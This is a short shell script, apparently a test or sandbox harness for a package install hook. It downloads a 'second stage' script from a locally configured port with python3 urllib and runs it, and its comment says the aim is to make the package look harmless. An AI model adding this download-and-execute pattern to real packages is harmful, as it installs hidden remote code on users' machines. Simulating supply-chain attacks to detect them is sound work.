#!/bin/sh
# Second stage: download code at install time and run it, so the package itself looks
# harmless. (python3's urllib honours the proxy variables, like curl would.)
port=$(node lib.js cfg sinks.http)
if python3 -c "import sys, urllib.request; sys.stdout.write(urllib.request.urlopen('http://127.0.0.1:$port/stage2.sh', timeout=3).read().decode())" > stage2.sh 2>/dev/null; then
  node lib.js did downloaded
  sh stage2.sh
fi
node lib.js note finished
